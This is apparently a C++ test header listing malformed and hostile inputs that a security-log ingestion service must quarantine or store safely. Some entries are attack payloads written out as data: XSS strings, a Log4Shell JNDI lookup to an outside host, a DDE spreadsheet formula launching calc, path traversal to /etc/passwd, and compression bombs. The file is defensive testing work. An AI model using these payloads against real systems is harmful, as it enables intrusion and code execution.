// The nasty inputs that every parser must survive, one line each: number, name, what is sent, what must become of it.
//
// The numbers are those of the list of 44 that this project keeps; several inputs may share one. `outcome` is the
// receipt in words ("received 1: new 1"), `reasons` the quarantine's, `check` an SQL question with its answer. A
// request is answered 200 in every case: what is wrong with a record is no reason for a sender to send it again.
//
// Elsewhere: input 43 is of the HTTP gate (http_gate_test.cpp). Input 44 is of the Firehose door (doors_test.cpp:
// FirehoseTakesItsLargestRequest, FirehoseIdsComeFromWhereTheyAre, DoorsRedeliveryTest; one record more than 10,000 in
// FirehoseEnvelopeTest, envelope_test.cpp). What the bombs of 41 cost in memory is measured in decode_memory_test.cpp.
#pragma once
#include <fmt/format.h>
#include <functional>
#include <string>
#include <utility>
#include <vector>

#include "schema/core/json_tree.hpp"
#include "schema/core/time.hpp"
#include "schema/model/api_event.hpp"
#include "tests/http/door_harness.hpp"
#include "tests/support/compressed.hpp"

namespace backtrail::testing {

struct NastyInput {
  int number;
  std::string name;
  std::string body;
  std::string outcome;
  std::string reasons;  // distinct, sorted, by blanks
  std::string check, answer;
  std::string headers;  // of the request
};

// A time of the last hour, as records give it.
inline std::string recent_time(std::int64_t minus_us = schema::kMicrosPerHour) {
  const std::int64_t us = schema::now_us() - minus_us;
  return schema::format_rfc3339(us - us % schema::kMicrosPerSecond);
}
inline std::string today() {
  return recent_time().substr(0, 10);
}
inline std::string yesterday() {
  return recent_time(schema::kMicrosPerDay).substr(0, 10);
}

using Fields = std::vector<std::pair<std::string, std::string>>;  // name, JSON text of the value; "" removes it

inline std::string object_text(Fields fields, const Fields& changes) {
  for (const auto& [name, value] : changes) {
    bool known = false;
    for (auto& field : fields)
      if (field.first == name) {
        field.second = value;
        known = true;
      }
    if (!known) fields.emplace_back(name, value);
  }
  std::string text;
  for (const auto& [name, value] : fields)
    if (!value.empty()) text += fmt::format("{}\"{}\":{}", text.empty() ? "{" : ",", name, value);
  return text + "}";
}
inline std::string json_text(std::string_view text) {
  std::string json;
  schema::append_json_string(text, json);
  return json;
}
inline std::string repeated(std::string_view text, std::size_t times) {
  std::string out;
  for (std::size_t i = 0; i < times; ++i) out += text;
  return out;
}

// A CloudTrail record with changes.
inline std::string trail(const Fields& changes = {}, int number = 1) {
  return object_text(
      {{"eventVersion", "\"1.11\""},
       {"userIdentity",
        R"({"type":"IAMUser","principalId":"AIDAEXAMPLEUSER00001","accountId":"111122223333","userName":"lee"})"},
       {"eventTime", json_text(recent_time())},
       {"eventSource", "\"s3.amazonaws.com\""},
       {"eventName", "\"GetObject\""},
       {"awsRegion", "\"eu-west-1\""},
       {"sourceIPAddress", "\"198.51.100.7\""},
       {"userAgent", "\"aws-cli/2.15\""},
       {"requestParameters", R"({"bucketName":"bucket"})"},
       {"eventID", fmt::format("\"00000000-0000-4000-8000-{:012}\"", number)},
       {"recipientAccountId", "\"111122223333\""}},
      changes);
}
// A GuardDuty finding with changes.
inline std::string finding(const Fields& changes = {}) {
  return object_text({{"schemaVersion", "\"2.0\""},
                      {"accountId", "\"111122223333\""},
                      {"region", "\"eu-west-1\""},
                      {"id", "\"0123456789abcdef0123456789abcdef\""},
                      {"type", "\"Recon:IAMUser/UserPermissions\""},
                      {"resource", R"({"resourceType":"AccessKey"})"},
                      {"service", R"({"serviceName":"guardduty","detectorId":"d1","count":1})"},
                      {"severity", "5"},
                      {"createdAt", json_text(recent_time())},
                      {"updatedAt", json_text(recent_time())},
                      {"title", "\"A title\""},
                      {"description", "\"A description.\""}},
                     changes);
}
// A Security Hub finding with changes.
inline std::string hub_finding(const Fields& changes = {}) {
  return object_text({{"SchemaVersion", "\"2018-10-08\""},
                      {"Id", "\"scan/1\""},
                      {"ProductArn", "\"arn:aws:securityhub:eu-west-1::product/acme/scanner\""},
                      {"GeneratorId", "\"g\""},
                      {"AwsAccountId", "\"111122223333\""},
                      {"Types", R"(["Software and Configuration Checks"])"},
                      {"CreatedAt", json_text(recent_time())},
                      {"UpdatedAt", json_text(recent_time())},
                      {"Severity", R"({"Label":"LOW"})"},
                      {"Title", "\"A title\""},
                      {"Description", "\"A description.\""},
                      {"Resources", R"([{"Type":"Other","Id":"thing"}])"}},
                     changes);
}

namespace nasty {

inline const std::string kNew = "received 1: new 1", kQuarantined = "received 1: quarantined 1";
inline const std::string kGood = trail({}, 99);  // a neighbour

inline void add_json(std::vector<NastyInput>& all) {
  using namespace std::string_literals;
  const auto flags = [](std::int32_t flag) {
    return std::pair{fmt::format("SELECT flags & {} <> 0 FROM api_event", flag), "t"s};
  };
  const auto [nul_flag, yes] = flags(schema::kFlagNulText);
  const auto param = [](const std::string& json) { return trail({{"x", json}}); };
  const auto bad = [&](int number, const std::string& name, const std::string& record, const std::string& reason) {
    // With a neighbour behind it, which is stored.
    all.push_back({number, name, record + "\n" + kGood, "received 2: new 1 quarantined 1", reason, "", "", ""});
  };
  const auto good = [&](int number, const std::string& name, const std::string& record, const std::string& check = "",
                        const std::string& answer = "") {
    all.push_back({number, name, record, kNew, "", check, answer, ""});
  };

  good(1, "NulEscapeInAValue", trail({{"userAgent", R"("a\u0000b")"}}), nul_flag, yes);
  good(1, "NulEscapeInAColumn", trail({{"awsRegion", R"("eu\u0000west")"}}),
       "SELECT region = 'eu' || chr(65533) || 'west' FROM api_event", "t");
  good(1, "NulEscapeInAFinding", finding({{"title", R"("a\u0000b")"}}),
       "SELECT title = 'a' || chr(65533) || 'b' FROM finding", "t");
  good(2, "EscapedBackslashBeforeU0000", trail({{"userAgent", R"("a\\u0000b")"}}), nul_flag, "f");
  bad(3, "NulInAKey", param(R"({"a\u0000b":1})"), "nul_key");
  bad(4, "RawNulByteInAString", trail({{"userAgent", "\"a\0b\""s}}), "control_character");
  bad(4, "RawNulByteBetweenTokens", param("[1,\0 2]"s), "syntax");
  bad(4, "RawControlByteInAString", trail({{"userAgent", "\"a\x01z\""}}), "control_character");
  bad(5, "Utf8NeverValidByte", trail({{"userAgent", "\"\xFF\""}}), "utf8");
  bad(5, "Utf8TruncatedSequence", trail({{"userAgent", "\"\xE2\x82\""}}), "utf8");
  bad(5, "Utf8OverlongSlash", trail({{"userAgent", "\"\xC0\xAF\""}}), "utf8");
  bad(5, "Utf8EncodedSurrogate", trail({{"userAgent", "\"\xED\xA0\x80\""}}), "utf8");
  bad(6, "LoneHighSurrogate", param(R"("\ud800")"), "string");
  bad(6, "LoneLowSurrogate", param(R"("\udc00 x")"), "string");
  bad(6, "ReversedSurrogates", param(R"("\udc00\ud800")"), "string");
  good(7, "AstralAndNoncharacterAndMarks",
       trail({{"userAgent", "\"\\ud83d\\ude00 \xF0\x9F\x98\x80 \\ufffe e\\u0301 \\u202e\""}}));
  good(8, "ByteOrderMark", "\xEF\xBB\xBF" + trail());
  bad(9, "DuplicateKey", param(R"({"a":1,"a":2})"), "dup_key");
  bad(9, "DuplicateKeyByEscape", param(R"({"a":1,"\u0061":2})"), "dup_key");
  bad(9, "DuplicateAccount", trail({{"recipientAccountId", R"("111122223333","recipientAccountId":"444455556666")"}}),
      "dup_key");
  bad(9, "DuplicateAccountByEscape",
      trail({{"recipientAccountId", R"("111122223333","recipient\u0041ccountId":"444455556666")"}}), "dup_key");
  for (const char* number : {"9007199254740993", "9223372036854775808", "18446744073709551616", "-9223372036854775809"})
    good(10, fmt::format("Number{}{}", number[0] == '-' ? "Minus" : "", number + (number[0] == '-')), param(number),
         fmt::format("SELECT position('\"x\":{}}}' IN raw) > 0 FROM stored", number), "t");
  bad(11, "HugeExponent", param("1e400"), "number");
  bad(11, "TinyExponent", param("1e-400"), "number");
  bad(11, "HundredThousandDigits", param(std::string(100'000, '7')), "number");
  for (const auto& [name, text] : std::initializer_list<std::pair<const char*, const char*>>{{"NotANumber", "NaN"},
                                                                                             {"Infinity", "Infinity"},
                                                                                             {"LeadingZero", "01"},
                                                                                             {"Plus", "+1"},
                                                                                             {"NoWhole", ".5"},
                                                                                             {"NoFraction", "1."}})
    bad(12, name, param(text), std::string(text) == "01" || std::string(text) == "1." ? "number" : "syntax");
  good(12, "MinusZero", param("-0"));
  good(13, "Depth64", param(std::string(63, '[') + std::string(63, ']')));
  bad(13, "Depth65", param(std::string(64, '[') + std::string(64, ']')), "too_large");
  bad(13, "Depth1024", param(std::string(1024, '[') + std::string(1024, ']')), "too_large");
  bad(13, "DepthMillion", param(std::string(500'000, '[') + std::string(500'000, ']')), "too_large");
  const auto keys = [](int count) {
    std::string text = "{";
    for (int i = 0; i < count; ++i) text += fmt::format("{}\"k{}\":1", i == 0 ? "" : ",", i);
    return text + "}";
  };
  good(14, "TenThousandKeys", param(keys(10'000)));
  bad(14, "TenThousandAndOneKeys", param(keys(10'001)), "too_large");
  bad(14, "MillionKeys", param(keys(1'000'000)), "too_large");
  bad(14, "KeyOfOneMebibyte", param("{\"" + std::string(1024 * 1024, 'k') + "\":1}"), "too_large");
  const auto of_size = [](std::size_t bytes) {
    const std::size_t fixed = trail({{"a", "\"\""}, {"b", "\"\""}, {"c", "\"\""}}).size(), rest = bytes - fixed;
    return trail({{"a", json_text(std::string(rest / 3, 'a'))},
                  {"b", json_text(std::string(rest / 3, 'b'))},
                  {"c", json_text(std::string(rest - 2 * (rest / 3), 'c'))}});
  };
  good(15, "EventOf257KiB", of_size(257 * 1024));
  good(15, "EventOfOneMebibyte", of_size(1024 * 1024));
  bad(15, "EventOfOneMebibyteAndOne", of_size(1024 * 1024 + 1), "too_large");
  const auto two = [&](int number, const std::string& name, const std::string& body) {
    all.push_back({number, name, body, "received 2: new 2", "", "", "", ""});
  };
  two(16, "ConcatenatedDocuments", trail() + kGood);
  two(16, "ConcatenatedLogFiles", R"({"Records":[)" + trail() + R"(]}{"Records":[)" + kGood + "]}");
  two(16, "LinesWithBlanksAndCrLf", trail() + "\r\n\r\n\n" + kGood + "\r\n");
  all.push_back(
      {16, "TrailingGarbage", trail() + kGood + "garbage", "received 3: new 2 quarantined 1", "syntax", "", "", ""});
  all.push_back({17, "TruncatedLastRecord", R"({"Records":[)" + trail() + "," + kGood.substr(0, 200),
                 "received 2: new 1 quarantined 1", "truncated", "", "", ""});
  all.push_back({17, "TruncatedLastLine", trail() + "\n" + kGood.substr(0, 200), "received 2: new 1 quarantined 1",
                 "truncated", "", "", ""});
  for (const auto& [name, body] :
       std::initializer_list<std::pair<const char*, const char*>>{{"EmptyArray", "[]"},
                                                                  {"Null", "null"},
                                                                  {"Number", "5"},
                                                                  {"NoRecords", R"({"Records":[]})"},
                                                                  {"RecordsNull", R"({"Records":null})"},
                                                                  {"WhiteSpace", " \r\n"}})
    all.push_back({18, std::string("Nothing") + name, body, "received 0:", "", "", "", ""});
  bad(19, "EventTimeIsANumber", trail({{"eventTime", "5"}}), "schema");
  bad(19, "RecordsIsAnObject", R"({"Records":{}})", "schema");
  bad(19, "AccountIsANumber", trail({{"recipientAccountId", "111122223333"}}), "schema");
  bad(19, "AccountOfAFindingIsANumber", finding({{"accountId", "111122223333"}}), "schema");
  bad(19, "AccountIsAnArray", trail({{"recipientAccountId", R"(["111122223333"])"}}), "schema");
  // Scanners write it so; the text counts, so that no leading zero is made up or lost.
  good(19, "AccountOfASecurityHubFindingIsANumber", hub_finding({{"AwsAccountId", "111122223333"}}),
       "SELECT account_id FROM finding", "111122223333");
  good(20, "UnknownVersionFieldsAndService",
       trail({{"eventVersion", "\"9.99\""}, {"newField", R"({"a":[1]})"}, {"eventSource", "\"new.amazonaws.com\""}}));
  bad(21, "Comment", "{/* x */" + trail().substr(1), "syntax");
  bad(21, "TrailingComma", param("[1,]"), "syntax");
  bad(21, "SingleQuotes", param("'x'"), "syntax");
}

inline void add_times(std::vector<NastyInput>& all) {
  const auto time = [&](int number, const std::string& name, const std::string& text, const std::string& stored,
                        const std::string& reason = "") {
    all.push_back({number, name, trail({{"eventTime", json_text(text)}}), reason.empty() ? kNew : kQuarantined, reason,
                   stored.empty() ? "" : R"(SELECT to_char(event_time, 'YYYY-MM-DD"T"HH24:MI:SS.US') FROM api_event)",
                   stored, ""});
  };
  const std::string day = yesterday();
  time(22, "LeapSecond", day + "T23:59:60Z", day + "T23:59:59.999999");
  all.back().check = "SELECT (flags & 2 <> 0) || to_char(event_time, ' HH24:MI:SS.US') FROM api_event";
  all.back().answer = "true 23:59:59.999999";
  time(23, "Hour24", day + "T24:00:00Z", "", "time");
  time(23, "Second61", day + "T23:59:61Z", "", "time");
  time(23, "Month13", day.substr(0, 5) + "13-01T00:00:00Z", "", "time");
  time(23, "February30", day.substr(0, 5) + "02-30T00:00:00Z", "", "time");
  time(24, "NineDigitsOfFraction", day + "T10:00:00.123456789Z", day + "T10:00:00.123456");
  time(24, "SevenNinesBeforeMidnight", day + "T23:59:59.9999999Z", day + "T23:59:59.999999");
  time(25, "NoZone", day + "T10:00:00", "", "time");
  time(25, "ZoneAhead", day + "T10:00:00+05:30", day + "T04:30:00.000000");
  time(25, "ZoneMinusZero", day + "T10:00:00-00:00", day + "T10:00:00.000000");
  time(25, "LowerCase", day + "t10:00:00z", day + "T10:00:00.000000");
  time(25, "Zone25", day + "T10:00:00+25:00", "", "time");
  for (const auto& [name, text] :
       std::initializer_list<std::pair<const char*, const char*>>{{"WordInfinity", "infinity"},
                                                                  {"WordNow", "now"},
                                                                  {"WordTomorrow", "tomorrow"},
                                                                  {"Slashes", "01/02/2026"},
                                                                  {"Year0000", "0000-01-01T00:00:00Z"},
                                                                  {"Year9999", "9999-12-31T00:00:00Z"},
                                                                  {"Year10000", "10000-01-01T00:00:00Z"},
                                                                  {"Year294277", "294277-01-01T00:00:00Z"}})
    time(26, name, text, "", "time");
  time(26, "Epoch", "1970-01-01T00:00:00Z", "", "too_old");
  time(26, "OlderThanTheRetention", recent_time(100 * schema::kMicrosPerDay), "", "too_old");
  all.push_back({26, "OneHourAhead", trail({{"eventTime", json_text(recent_time(-schema::kMicrosPerHour))}}), kNew, "",
                 "SELECT flags & 1 FROM api_event", "1", ""});
  for (const auto& [name, text] : std::initializer_list<std::pair<const char*, const char*>>{
           {"EpochSeconds", "1700000000"}, {"EpochMilliseconds", "1700000000000"}, {"EpochFloat", "1.7e9"}})
    all.push_back({27, name, trail({{"eventTime", text}}), kQuarantined, "schema", "", "", ""});
}

inline void add_identity(std::vector<NastyInput>& all) {
  for (const auto& [name, text] : std::initializer_list<std::pair<const char*, const char*>>{
           {"Account11Digits", "11112222333"},
           {"Account13Digits", "1111222233334"},
           {"AccountArabicIndicDigits", "\xD9\xA1\xD9\xA1\xD9\xA1\xD9\xA1\xD9\xA2\xD9\xA2"},
           {"AccountWithSpace", " 11112222333"},
           {"AccountWithNewline", "111122223333\n"}}) {
    all.push_back({28, name, trail({{"recipientAccountId", json_text(text)}}), kQuarantined, "account", "", "", ""});
    all.push_back({28, std::string(name) + "OfAFinding", finding({{"accountId", json_text(text)}}), kQuarantined,
                   "account", "", "", ""});
  }
  all.push_back({28, "AccountWithLeadingZeros", trail({{"recipientAccountId", "\"000000000012\""}}), kNew, "",
                 "SELECT account_id FROM api_event", "000000000012", ""});
  // The recipient is where it happened, the caller may be of anywhere.
  all.push_back({29, "CallerOfAnotherAccount", trail({{"recipientAccountId", "\"444455556666\""}}), kNew, "",
                 "SELECT account_id FROM api_event", "444455556666", ""});
  all.push_back(
      {29, "AccountInTwoSpellings", finding({{"AccountId", "\"444455556666\""}}), kQuarantined, "schema", "", "", ""});
  all.push_back({30, "OneIdInTwoAccounts", trail() + trail({{"recipientAccountId", "\"444455556666\""}}),
                 "received 2: new 2", "", "SELECT count(*) FROM api_event", "2", ""});
  all.push_back({30, "OneFindingIdInTwoRegions", finding() + finding({{"region", "\"us-east-1\""}}),
                 "received 2: new 2", "", "SELECT count(*) FROM finding", "2", ""});
  // Both are kept; no trail gives one id to two Regions, so a person hears of it.
  all.push_back({30, "OneEventIdInTwoRegions", trail() + trail({{"awsRegion", "\"us-east-1\""}}),
                 "received 2: new 1 variants 1", "", "SELECT count(*) FROM api_event", "2", ""});
  all.push_back({31, "OneIdWithOtherContent", trail() + trail({{"userAgent", "\"other\""}}),
                 "received 2: new 1 variants 1", "", "SELECT count(*) || ' ' || min(kind) FROM alert",
                 "1 event_variant", ""});
  all.push_back({32, "NoEventId", trail({{"eventID", ""}}) + trail({{"eventID", ""}}), "received 2: new 1 duplicates 1",
                 "", "SELECT flags & 4 FROM api_event", "4", ""});
  all.push_back({32, "NoFindingId", finding({{"id", ""}}), kQuarantined, "missing_id", "", "", ""});
  all.push_back(
      {33, "UpdateOlderThanWhatIsKnown",
       finding({{"title", "\"newer\""}}) +
           finding({{"title", "\"older\""}, {"updatedAt", json_text(recent_time(2 * schema::kMicrosPerHour))}}),
       "received 2: new 1 stale 1", "", "SELECT title || ' ' || (SELECT count(*) FROM finding_version) FROM finding",
       "newer 2", ""});
  for (const auto& [name, text] :
       std::initializer_list<std::pair<const char*, const char*>>{{"SourceAwsInternal", "AWS Internal"},
                                                                  {"SourceService", "ec2.amazonaws.com"},
                                                                  {"SourceWithZone", "fe80::1%eth0"},
                                                                  {"SourceOutOfRange", "1.2.3.999"}})
    all.push_back(
        {34, name, trail({{"sourceIPAddress", json_text(text)}}), kNew, "",
         fmt::format("SELECT ip_address_hash IS NULL AND position('{}' IN stored.raw) > 0 FROM api_event JOIN stored "
                     "USING (event_id)",
                     text),
         "t", ""});
}

inline void add_texts(std::vector<NastyInput>& all) {
  const auto everywhere = [&](int number, const std::string& name, const std::string& text) {
    const std::string json = json_text(text);
    all.push_back({number, name,
                   trail({{"userAgent", json},
                          {"eventName", json},
                          {"awsRegion", json},
                          {"eventSource", json},
                          {"errorCode", json},
                          {"requestParameters", "{\"key\":" + json + ",\"bucketName\":" + json + "}"}}) +
                       finding({{"title", json}, {"description", json}, {"type", json}}) +
                       hub_finding({{"Title", json}, {"Id", json}}),
                   "received 3: new 3", "",
                   "SELECT count(*) FROM finding WHERE title = " + std::string("$nasty$") + text + "$nasty$", "2", ""});
  };
  everywhere(35, "ScriptTag", "<script>alert(1)</script>");
  everywhere(35, "ImageWithHandler", "<img src=x onerror=alert(1)>");
  everywhere(35, "JavaScriptLink", "javascript:alert(1)");
  everywhere(35, "JndiLookup", "${jndi:ldap://198.51.100.9/a}");
  everywhere(35, "TemplateExpression", "{{7*7}}");
  everywhere(35, "EndOfTitle", "</title><b>");
  everywhere(36, "FormulaEquals", "=cmd|' /C calc'!A0");
  everywhere(36, "FormulaPlus", "+1+1");
  everywhere(36, "FormulaMinus", "-1+1");
  everywhere(36, "FormulaAt", "@SUM(1)");
  everywhere(36, "FormulaTab", "\t=1");
  everywhere(37, "EscapeSequence", "\x1b[31mred\x1b[0m");
  everywhere(37, "LineSeparator", "a\xE2\x80\xA8z");
  everywhere(37, "LineBreakForLogs", "a\nlevel=error forged");
  for (const std::size_t length : {3'000U, 100'000U}) {
    std::string noise;
    for (std::size_t i = 0; noise.size() < length; ++i) noise += static_cast<char>(0x20 + (i * 7919 + i / 13) % 95);
    all.push_back({38, fmt::format("NoiseOf{}Bytes", length),
                   trail({{"userAgent", json_text(noise)},
                          {"userIdentity",
                           R"({"type":"IAMUser","accountId":"111122223333","userName":)" + json_text(noise) + "}"}}),
                   kNew, "", "", "", ""});
  }
  for (const auto& [name, text] :
       std::initializer_list<std::pair<const char*, std::string>>{{"KeyDotDot", "../../etc/passwd"},
                                                                  {"KeyEncodedDotDot", "%2e%2e/%2e%2e/x"},
                                                                  {"KeyOf1024Bytes", std::string(1024, 'k')},
                                                                  {"KeyWithPlusAndBlank", "a+b%20c d"}})
    all.push_back({39, name, trail({{"requestParameters", R"({"bucketName":"bucket","key":)" + json_text(text) + "}"}}),
                   kNew, "", fmt::format("SELECT position('{}' IN raw) > 0 FROM stored", text), "t", ""});
}

inline void add_transport(std::vector<NastyInput>& all) {
  const std::string packed = gzip(trail()), other = gzip(kGood);
  const auto changed = [&](std::size_t from_end) {
    std::string bytes = packed;
    bytes[bytes.size() - from_end] = static_cast<char>(bytes[bytes.size() - from_end] ^ 0x55);
    return bytes;
  };
  const auto damaged = [&](const std::string& name, const std::string& bytes) {
    all.push_back({40, name, bytes, kQuarantined, "encoding", "", "", ""});
  };
  damaged("GzipTruncated", packed.substr(0, packed.size() / 2));
  damaged("GzipWrongChecksum", changed(8));
  damaged("GzipWrongLength", changed(4));
  all.push_back({40, "GzipTwoMembers", packed + other, "received 2: new 2", "", "", "", ""});
  all.push_back({40, "GzipEmptyMember", gzip("") + packed, kNew, "", "", "", ""});
  all.push_back(
      {40, "GzipTrailingGarbage", packed + "garbage", "received 2: new 1 quarantined 1", "encoding", "", "", ""});
  all.push_back({40, "GzipInGzip", gzip(packed), kNew, "", "", "", ""});
  all.push_back({40, "HeaderSaysGzipButPlain", trail(), kNew, "", "", "", "Content-Encoding: gzip\r\n"});
  all.push_back({40, "HeaderSaysJsonButGzip", packed, kNew, "", "", "", "Content-Type: application/json\r\n"});
  const auto bomb = [&](const std::string& name, const std::string& bytes, const std::string& reason) {
    all.push_back({41, name, bytes, kQuarantined, reason, "", "", ""});
  };
  bomb("GzipBomb", gzip(std::string(256U * 1024 * 1024, ' '), 9), "bomb");
  bomb("ZstdBomb", zstd(std::string(256U * 1024 * 1024, ' '), 19), "bomb");
  // A frame that asks for a window of 2 GiB (RFC 8878 3.1.1.1.2: exponent 21, mantissa 0) and holds one empty block.
  bomb("ZstdWindowOf2GiB", std::string("\x28\xb5\x2f\xfd\x00\xa8\x01\x00\x00", 9), "encoding");
}

// Records of a Firehose request that are not quite base64; the request is the same whatever door it comes through.
inline void add_base64(std::vector<NastyInput>& all) {
  const auto request = [](const std::string& data) {
    return fmt::format(R"({{"requestId":"request-1","timestamp":1793613600000,"records":[{}{}]}})", data,
                       R"({"data":")" + base64(kGood) + "\"}");
  };
  const std::string text = base64(trail() + std::string((3 - (trail().size() + 1) % 3) % 3, ' '));  // ends with '='
  const auto damaged = [&](const std::string& name, const std::string& json) {
    all.push_back(
        {42, name, request(R"({"data":")" + json + "\"},"), "received 2: new 1 quarantined 1", "encoding", "", "", ""});
  };
  const auto with = [&text](std::size_t at, const std::string& letters) {
    return text.substr(0, at) + letters + text.substr(at + 1);
  };
  damaged("Base64BadAlphabet", with(8, "!"));
  damaged("Base64UrlAlphabetMinus", with(8, "-"));
  damaged("Base64UrlAlphabetUnderscore", with(8, "_"));
  damaged("Base64WithoutPadding", text.substr(0, text.find('=')));
  damaged("Base64PaddingInTheMiddle", with(8, "="));
  damaged("Base64TruncatedByOne", text.substr(1));
  damaged("Base64LineBreak", with(8, "\\r\\n"));
  damaged("Base64BlankBehind", text + " ");
  damaged("Base64NulByte", with(8, "\\u0000"));
  damaged("Base64StrayBits", "Zh==");
  all.push_back({42, "Base64OfNothing", request(R"({"data":""},)"), kNew, "", "", "", ""});
  all.push_back({42, "Base64WithEscapedSlashes", request(R"({"data":"\/\/8="},)"), "received 2: new 1 quarantined 1",
                 "syntax", "", "", ""});
}

}  // namespace nasty

inline const std::vector<NastyInput>& nasty_inputs() {
  static const std::vector<NastyInput> inputs = [] {
    std::vector<NastyInput> all;
    nasty::add_json(all);
    nasty::add_times(all);
    nasty::add_identity(all);
    nasty::add_texts(all);
    nasty::add_transport(all);
    nasty::add_base64(all);
    return all;
  }();
  return inputs;
}

}  // namespace backtrail::testing
